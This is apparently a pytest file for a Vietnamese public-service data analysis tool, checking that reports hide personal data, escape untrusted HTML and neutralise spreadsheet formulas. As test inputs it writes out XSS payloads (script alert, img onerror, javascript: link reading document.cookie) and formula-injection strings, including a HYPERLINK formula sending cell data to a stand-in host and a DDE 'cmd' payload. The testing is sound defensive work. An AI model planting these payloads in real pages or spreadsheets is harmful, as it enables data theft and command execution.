"""Personal data never leaves an analyst's session, and text from the inputs is always
shown as text: HTML pages (raw and in headless Chromium) and spreadsheet exports.

The report checks use the review report of the bundled sample (built once per run,
``sample_report`` in ``conftest.py``), whose applicants and senders are known: every
personal value of the raw sample files is looked for in every file of the report, as
written and in its escaped forms. The sample also holds one feedback item with
``<script>``, ``<img onerror>`` and ``javascript:`` content (``sample/pakn.py``).
"""

from __future__ import annotations

import dataclasses
import html
import io
import re
import shutil
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from python_calamine import CalamineWorkbook

from tthc_analysis.config import SAMPLE_DIR
from tthc_analysis.fields import personal_columns
from tthc_analysis.loading import load
from tthc_analysis.loading.datasets import discover
from tthc_analysis.loading.ingest import ingest
from tthc_analysis.loading.readers import read_raw
from tthc_analysis.loading.reference import load_references
from tthc_analysis.loading.values import cell_text
from tthc_analysis.metrics.form06 import form06
from tthc_analysis.periods import parse_period
from tthc_analysis.plan import load_plan, parse_plan, plan_to_csv, write_plan_csv
from tthc_analysis.review.form06_export import write_form06
from tthc_analysis.views import display as tv

MIN_LENGTH = 6
"""Shortest personal value looked for. A shorter value (a one-syllable name such as
"An") also occurs in ordinary Vietnamese words, so a match would mean nothing; the
bundled sample has none (checked below), so every one of its values is looked for."""

XSS = {
    "script": "<script>alert('x')</script>",
    "img": "<img src=x onerror=alert(1)>",
    "link": '<a href="javascript:alert(document.cookie)">',
}
"""The planted payloads of PAKN-2025-0014 (tthc_analysis/sample/pakn.py)."""
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "+84-cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
"""Formula-like texts (CSV/formula injection) written by a hostile or careless user."""


# --- Personal values of the raw sample ------------------------------------------------------


def personal_values(raw_dir: Path) -> dict[str, str]:
    """Every personal value of every data file (also of rows that get rejected) -> column."""
    files, _ = discover(raw_dir)
    found: dict[str, str] = {}
    for source in files:
        table = read_raw(source.path, source.rel, source.dataset)
        for column in sorted(personal_columns(table.match.dataset) & set(table.columns)):
            for value in cell_text(table.columns[column]).drop_null().to_pylist():
                text = unicodedata.normalize("NFC", value).strip()
                if text:
                    found.setdefault(text, column)
    return found


_ESCAPED_CODE_POINT = re.compile(r"\\+u([0-9a-fA-F]{4})")


def _readable(text: str) -> str:
    """``text`` with JSON ``\\uXXXX`` escapes (at any depth) and HTML entities decoded."""
    text = _ESCAPED_CODE_POINT.sub(lambda m: chr(int(m.group(1), 16)), text)
    return unicodedata.normalize("NFC", html.unescape(text))


def report_texts(folder: Path) -> dict[str, str]:
    """Every file of a report folder as text (workbooks: every part of the zip)."""
    texts = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if zipfile.is_zipfile(io.BytesIO(data)):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                data = b"\n".join(archive.read(name) for name in archive.namelist())
        texts[path.relative_to(folder).as_posix()] = data.decode("utf-8", errors="replace")
    return texts


def _escape_re2(text: str) -> str:
    return re.sub(r"([\\.^$|?*+()\[\]{}])", r"\\\1", text)


def find_values(texts: dict[str, str], values: list[str]) -> list[tuple[str, str]]:
    """(file, value) for each value found in a text, as written or once unescaped.

    The lines of every file are searched at once per block of values (RE2 through
    pyarrow: linear in the text whatever the number of values).
    """
    names, lines = [], []
    for name, text in texts.items():
        for view in {text, _readable(text)}:
            for line in view.splitlines():
                names.append(name)
                lines.append(line)
    haystack = pa.array(lines, type=pa.large_string())
    hits = []
    for start in range(0, len(values), 2000):
        block = values[start : start + 2000]
        pattern = "|".join(_escape_re2(v) for v in block)
        matched = pc.match_substring_regex(haystack, pattern).to_numpy(zero_copy_only=False)
        for i in matched.nonzero()[0]:
            hits += [(names[i], v) for v in block if v in lines[i]]
    return sorted(set(hits))


@pytest.fixture(scope="module")
def sample_personal() -> dict[str, str]:
    return personal_values(SAMPLE_DIR)


def test_the_scanner_finds_values_in_every_escaped_form(sample_personal):
    name = next(v for v, c in sample_personal.items() if c == "applicant_name")
    phone = next(v for v, c in sample_personal.items() if c == "applicant_phone")
    address = next(v for v, c in sample_personal.items() if c == "sender_address")
    texts = {
        "plain.html": f"<td>{html.escape(name)}</td>",
        "data.json": '{"x": "' + name.encode("ascii", "backslashreplace").decode() + '"}',
        "itables.html": "[[\\\\u" + f"{ord(address[0]):04x}" + address[1:] + "]]",
        "nfd.ipynb": unicodedata.normalize("NFD", f"Liên hệ {phone}"),
        "clean.html": "<p>Không có gì</p>",
    }
    found = find_values(texts, [name, phone, address])
    assert found == [
        ("data.json", name),
        ("itables.html", address),
        ("nfd.ipynb", phone),
        ("plain.html", name),
    ]


def test_every_personal_value_of_the_sample_is_long_enough_to_look_for(sample_personal):
    columns = set(sample_personal.values())
    assert columns == {
        "applicant_name",
        "applicant_id_number",
        "applicant_phone",
        "applicant_email",
        "applicant_address",
        "sender_name",
        "sender_phone",
        "sender_email",
        "sender_address",
    }
    assert len(sample_personal) > 1000
    assert [v for v in sample_personal if len(v) < MIN_LENGTH] == []


@pytest.mark.slow
def test_no_personal_data_in_any_file_of_the_sample_report(sample_report, sample_personal):
    texts = report_texts(sample_report)
    assert {"index.html", "manifest.json", "du_lieu_bi_loai.xlsx"} <= set(texts)
    assert any(name.startswith("notebooks/") for name in texts)
    leaked = find_values(texts, sorted(sample_personal))
    assert [(file, sample_personal[value]) for file, value in leaked] == []


def test_an_analyst_sees_personal_data_only_when_asking(monkeypatch):
    loaded = load(SAMPLE_DIR / "feedback")
    pakn = loaded["feedback"].head(3)
    assert set(personal_columns("feedback")) <= set(pakn.columns)  # kept in the tables
    sender = pakn["sender_name"].iloc[0]
    assert html.escape(sender) not in tv.table_html(pakn, "pakn")
    assert html.escape(sender) not in tv.static_table_html(pakn)
    assert html.escape(sender) in tv.table_html(pakn, "pakn", show_personal=True)
    assert html.escape(sender) in tv.static_table_html(pakn, show_personal=True)
    # in a kernel of `tthc review`, asking is not enough
    monkeypatch.setenv(tv.REVIEW_BUILD_ENV, "1")
    assert html.escape(sender) not in tv.table_html(pakn, "pakn", show_personal=True)
    assert html.escape(sender) not in tv.static_table_html(pakn, show_personal=True)


def test_the_readme_says_how_to_see_personal_data():
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    assert "show_personal=True" in readme


# --- Escaping in the HTML report ---------------------------------------------------------------


class _ActiveParts(HTMLParser):
    """Elements and attributes of a page that could run or load something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        for key, value in attrs:
            value = (value or "").strip()
            if key.startswith("on"):
                self.found.append(f"<{tag} {key}=…>")
            elif key in ("href", "src", "action") and value.lower().startswith("javascript:"):
                self.found.append(f"<{tag} {key}={value[:30]}>")
            elif tag == "img" and key == "src" and value == "x":
                self.found.append("<img src=x>")


@pytest.mark.slow
def test_untrusted_text_is_escaped_in_every_page(sample_report):
    shown_in = []
    for path in sorted(sample_report.rglob("*")):
        if path.suffix not in (".html", ".ipynb", ".json"):
            continue
        text = path.read_text(encoding="utf-8")
        for payload in XSS.values():
            assert payload not in text, f"{payload} in {path.name}"
        if path.suffix == ".html":
            parser = _ActiveParts()
            parser.feed(text)
            assert parser.found == [], path.name
            if html.escape(XSS["script"], quote=False) in text:
                shown_in.append(path.name)
    assert "07_phan_anh_kien_nghi.html" in shown_in  # the planted item is shown, as text


def test_formula_like_input_is_text_in_the_rejected_rows_workbook(tmp_path):
    raw = tmp_path / "raw" / "dossiers"
    raw.mkdir(parents=True)
    lines = ["Mã hồ sơ,Mã TTHC,Kênh nộp,Ngày tiếp nhận,Ngày hẹn trả"]
    for i, text in enumerate(HOSTILE, 1):
        quoted = '"' + text.replace('"', '""') + '"'
        # an unreadable due date rejects the row, its value shown exactly, as text
        lines.append(f"HS-{i},1.005092,Trực tuyến,03/03/2025,{quoted}")
    (raw / "ho_so.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    ingest(tmp_path / "raw", out)
    assert _formulas(out / "rejected_rows.xlsx") == []
    with CalamineWorkbook.from_path(str(out / "rejected_rows.xlsx")) as workbook:
        cells = [c for row in workbook.get_sheet_by_index(0).to_python() for c in row]
    for text in HOSTILE:  # the value is kept as text, exactly
        assert text in cells


def _formulas(path: Path) -> list[str]:
    """Formula elements of every worksheet of an .xlsx file."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(r"<f[ >].*?</f>", archive.read(n).decode())]


@pytest.mark.slow
def test_the_report_workbooks_hold_no_formula(sample_report):
    for path in sorted(sample_report.glob("*.xlsx")):
        assert _formulas(path) == [], path.name


def _hostile_dossiers(tmp_path: Path) -> pd.DataFrame:
    raw = tmp_path / "dossiers"
    raw.mkdir()
    lines = ["Mã hồ sơ,Mã TTHC,Lĩnh vực,Kênh nộp,Ngày tiếp nhận,Ngày hẹn trả"]
    for i, text in enumerate(HOSTILE, 1):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"HS-{i},1.005092,{quoted},Trực tuyến,03/02/2025 08:00,10/02/2025")
    (raw / "ho_so.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return load(raw, dataset="dossiers")["dossiers"]


def test_form06_exports_keep_formula_like_field_names_as_text(tmp_path):
    dossiers = _hostile_dossiers(tmp_path)
    assert len(dossiers) == len(HOSTILE)
    period = parse_period("q1", 2025)
    table = form06(dossiers, period, calendar=load_references().calendar)
    write_form06(table, period, tmp_path / "bieu06.xlsx")
    assert _formulas(tmp_path / "bieu06.xlsx") == []
    with CalamineWorkbook.from_path(str(tmp_path / "bieu06.xlsx")) as workbook:
        cells = {c for row in workbook.get_sheet_by_index(0).to_python() for c in row}
    assert {t.strip() for t in HOSTILE} <= cells
    write_form06(table, period, tmp_path / "bieu06.csv")
    text = (tmp_path / "bieu06.csv").read_text(encoding="utf-8-sig")
    labels = pd.read_csv(io.StringIO(text), dtype=str).iloc[:, 1].tolist()
    assert {"'" + t.strip() for t in HOSTILE} <= set(labels)
    for line in text.splitlines():
        cells = next(iter(pd.read_csv(io.StringIO(line), header=None, dtype=str).values))
        assert not any(str(c).startswith(("=", "+", "-", "@")) for c in cells), line
    # numbers are left alone: 5 dossiers received online on 03/02, due 10/02, still pending
    # (overdue) at the end of Q1 (14/03/2025); then the period and its dates
    total = ",Tổng cộng,5,5,0,0,0,0,0,0,5,0,5,Quý I/2025,15/12/2024,14/03/2025"
    assert text.splitlines()[-1] == total


def test_the_plan_csv_protects_formula_like_text_and_reads_it_back(tmp_path):
    plan = load_plan()
    tasks = plan.tasks.copy()
    tasks.loc[0, "content"] = HOSTILE[0]
    tasks.loc[1, "expected_output"] = "- Báo cáo; - Công văn"
    hostile = dataclasses.replace(plan, tasks=tasks)
    text = plan_to_csv(hostile)
    assert "'=HYPERLINK(" in text and "'- Báo cáo" in text
    csv_path, _ = write_plan_csv(hostile, tmp_path / "ke_hoach.csv")
    back = parse_plan(csv_path)
    assert back.tasks.loc[0, "content"] == HOSTILE[0]
    assert back.tasks.loc[1, "expected_output"] == "- Báo cáo; - Công văn"


def test_the_evaluation_csv_protects_formula_like_text():
    from tthc_analysis.cli.evaluate import _csv_text

    tasks = pd.DataFrame(
        {
            "task_id": ["I.1"],
            "status": ["behind"],
            "status_vi": ["Chậm"],
            "reason_vi": [HOSTILE[3]],
            "evidence_vi": [HOSTILE[0]],
            "indicator_summary_vi": ["85,0%"],
        }
    )
    sections = pd.DataFrame(
        {
            "section_id": ["I"],
            "section_title": ["=1+1"],
            "n_tasks": [6],
            "n_done": [1],
            "n_on_track": [2],
            "n_problem": [3],
            "n_no_data": [0],
            "progress_share": [-0.5],
            "status": ["behind"],
            "status_vi": ["Chậm"],
            "summary_vi": ["@x"],
        }
    )
    text = _csv_text(SimpleNamespace(tasks=tasks, sections=sections))
    assert "'@SUM(1+1)" in text and "'=HYPERLINK(" in text
    assert "'=1+1" in text and "'@x" in text
    assert ",-0.5," in text  # a number stays a number


# --- In the browser ----------------------------------------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium is not installed: run `make browser`")
def test_the_planted_feedback_shows_as_text_and_never_runs_in_chromium(sample_report):
    from playwright.sync_api import sync_playwright

    pages = [
        p
        for p in sorted(sample_report.glob("*.html"))
        if html.escape(XSS["script"], quote=False) in p.read_text(encoding="utf-8")
    ]
    assert pages
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=["--headless", "--no-sandbox", "--disable-gpu"]
        )
        try:
            for path in pages:
                _check_page(browser, path)
        finally:
            browser.close()


def _check_page(browser, path: Path) -> None:
    dialogs: list[str] = []
    page = browser.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(path.resolve().as_uri(), wait_until="load")
        page.wait_for_timeout(300)
        searched = page.evaluate(
            """() => {
            let n = 0;
            if (!window.$) return n;
            for (const table of document.querySelectorAll('table.dataTable')) {
                const api = window.$(table).DataTable();
                api.search('PAKN-2025-0014').draw();
                n += 1;
            }
            return n;
        }"""
        )
        page.wait_for_timeout(300)
        text = page.locator("body").inner_text()
        assert XSS["script"] in text, f"{path.name}: the text is not shown ({searched} tables)"
        assert "<img src=x onerror=alert(1)>" in text
        assert page.locator("img[src=x]").count() == 0
        assert page.locator("a[href^='javascript:' i]").count() == 0
        page.wait_for_timeout(300)
        assert dialogs == [], path.name
    finally:
        page.close()


# --- Personal data typed into free text (issue 16) ----------------------------------------------

FREE_TEXT_LEAKS = {
    "phone": "0912 345 678",
    "phone_intl": "+84 987.654.321",
    "cccd": "079203004567",
    "cmnd": "285123456",
    "email": "chi.lan.tran@gmail.com",
}
"""Personal data an officer types into "Lý do quá hạn" and into PAKN content."""


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """The sample with personal data typed into free text, and its report."""
    import csv

    from tthc_analysis.review.build import build_review

    root = tmp_path_factory.mktemp("hostile")
    raw = root / "sample"
    shutil.copytree(SAMPLE_DIR, raw, ignore=shutil.ignore_patterns(".*"))
    # PAKN content: every pattern, and another sender's name
    path = raw / "feedback" / "pakn_2025.csv"
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    header = rows[0]
    content, name = header.index("Nội dung phản ánh"), header.index("Người gửi")
    other = rows[5][name]
    rows[1][content] += " Gọi " + FREE_TEXT_LEAKS["phone"] + " hoặc " + FREE_TEXT_LEAKS["email"]
    rows[2][content] = f"Ông {other.upper()} (CCCD {FREE_TEXT_LEAKS['cccd']}) phản ánh"
    # "Lý do chậm" of dossiers: an applicant's phone and ID typed by an officer
    dpath = raw / "dossiers" / "ho_so_2025_05.csv"
    drows = list(csv.reader(dpath.open(encoding="utf-8-sig")))
    dheader = drows[0]
    reason, applicant = dheader.index("Lý do chậm"), dheader.index("Chủ hồ sơ")
    late = [i for i, r in enumerate(drows[1:], 1) if r[reason]]
    drows[late[0]][reason] = (
        f"Chờ {drows[late[1]][applicant]} bổ sung, ĐT {FREE_TEXT_LEAKS['phone_intl']}"
    )
    drows[late[1]][reason] = f"Sai CMND {FREE_TEXT_LEAKS['cmnd']} của người nộp"
    # a rejected value that is a phone number (in a date column)
    received = dheader.index("Ngày nhận hồ sơ")
    drows[late[2]][received] = "gọi 0987 111 222"
    for target, table in ((path, rows), (dpath, drows)):
        with target.open("w", encoding="utf-8-sig", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(table)
    report = root / "report"
    build_review(data_dir=raw, out_dir=report, progress=False, jobs=2)
    names = [other, drows[late[1]][applicant]]
    return raw, report, names, (late[0] + 1, late[1] + 1, late[2] + 1)


@pytest.mark.slow
def test_personal_data_typed_into_free_text_never_reaches_a_report(hostile_report):
    from tthc_analysis.privacy import find_patterns, output_texts

    raw, report, names, _ = hostile_report
    texts = report_texts(report)
    leaked = find_values(texts, [*FREE_TEXT_LEAKS.values(), "0987 111 222", *names])
    assert leaked == []
    digits = ["912345678", "987654321", "079203004567", "285123456", "0987111222"]
    assert find_values({k: re.sub(r"[\s.]", "", v) for k, v in texts.items()}, digits) == []
    for path in sorted(p for p in report.rglob("*") if p.is_file()):
        for text in output_texts(path, skip=[tv.itables_bundle_html()]):
            assert find_patterns(text) == [], path.name
    # nor any personal value of the sample itself
    assert find_values(texts, sorted(personal_values(raw))) == []


@pytest.mark.slow
def test_the_data_quality_page_lists_the_masked_cells_by_file_row_and_column(hostile_report):
    _, report, _, (first, second, _) = hostile_report
    page = html.unescape((report / "chat_luong_du_lieu.html").read_text(encoding="utf-8"))
    assert "Ô đã ẩn dữ liệu cá nhân (" in page
    assert "Nghị định 13/2023/NĐ-CP" in page
    assert "feedback/pakn_2025.csv" in page and "dossiers/ho_so_2025_05.csv" in page
    with CalamineWorkbook.from_path(str(report / "du_lieu_bi_loai.xlsx")) as workbook:
        sheet = workbook.get_sheet_by_name("Ô đã ẩn dữ liệu cá nhân").to_python()
        rejected = workbook.get_sheet_by_name("Dòng bị loại").to_python()
    listed = {(r[1], r[2], r[3]) for r in sheet if len(r) > 3}
    assert ("dossiers/ho_so_2025_05.csv", first, "Lý do quá hạn") in listed
    assert ("dossiers/ho_so_2025_05.csv", second, "Lý do quá hạn") in listed
    assert ("feedback/pakn_2025.csv", 2, "Nội dung") in listed
    assert ("feedback/pakn_2025.csv", 3, "Nội dung") in listed
    cells = [str(c) for row in rejected for c in row]
    assert "(đã ẩn dữ liệu cá nhân)" in cells  # the rejected phone is not shown
    assert not any("0987" in c for c in cells)


def test_the_ingest_rejected_rows_workbook_hides_personal_patterns(tmp_path):
    # Issue 16: the rejected-rows workbook shows a rejected value only when it is not
    # personal by column or by pattern (Decree 13/2023/NĐ-CP). An officer typed the
    # applicant's phone and citizen ID into the due-date cell: the row is rejected (not a
    # date) and the workbook names file, row and column, never the value.
    raw = tmp_path / "raw" / "dossiers"
    raw.mkdir(parents=True)
    lines = [
        "Mã hồ sơ,Mã TTHC,Kênh nộp,Ngày tiếp nhận,Ngày hẹn trả",
        "HS-1,1.005092,Trực tuyến,03/03/2025,gọi 0912 345 678",
        "HS-2,1.005092,Trực tuyến,03/03/2025,CCCD 079203001234",
        "HS-3,1.005092,Trực tuyến,03/03/2025,31/02/2025",
    ]
    (raw / "ho_so.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    ingest(tmp_path / "raw", out)
    with CalamineWorkbook.from_path(str(out / "rejected_rows.xlsx")) as workbook:
        cells = [str(c) for row in workbook.get_sheet_by_index(0).to_python() for c in row]
    text = " ".join(cells)
    assert "0912 345 678" not in text and "079203001234" not in text
    assert text.count("(đã ẩn dữ liệu cá nhân)") == 2
    assert "31/02/2025" in cells  # not personal: shown as it was
